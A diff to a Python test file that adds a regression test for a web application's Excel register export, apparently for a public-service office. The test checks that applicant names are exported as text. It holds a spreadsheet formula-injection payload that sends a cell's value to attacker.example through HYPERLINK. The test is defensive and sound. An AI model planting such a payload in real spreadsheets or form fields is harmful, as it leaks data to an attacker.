@@ -2,6 +2,7 @@
 
 import datetime as dt
 import io
+import zipfile
 import re
 import shutil
 import subprocess
@@ -223,6 +224,20 @@ def test_forms_and_register_export(client, office, submitted_dossier):
     sheet = load_workbook(io.BytesIO(workbook.content)).active
     assert [c.value for c in sheet[4]][1] == dossier.code and sheet[4][3].value == "Nguyễn Văn An"
     assert client.get(reverse("staff:register") + "?xuat=pdf").content.startswith(b"%PDF")
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_excel_register(client, office):
+    """Issue 15, finding 7: a citizen named ``=HYPERLINK(...)`` became a live formula in the officers' export."""
+    agency, staff = office
+    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
+    DossierFactory(submitted=True, agency=agency, applicant_data={"full_name": formula})
+    DossierFactory(submitted=True, agency=agency, applicant_data={"full_name": "+84 Lê Văn -Cộng"})
+    client.force_login(staff.officer)
+    workbook = client.get(reverse("staff:register") + "?xuat=xlsx")
+    cells = {c.value: c.data_type for row in load_workbook(io.BytesIO(workbook.content)).active for c in row}
+    assert cells[formula] == "s" and cells["+84 Lê Văn -Cộng"] == "s"
+    raw = zipfile.ZipFile(io.BytesIO(workbook.content)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in raw
 
 
 def test_counter_intake_files_a_walk_in_citizens_dossier(client, office, outbox, tasks):
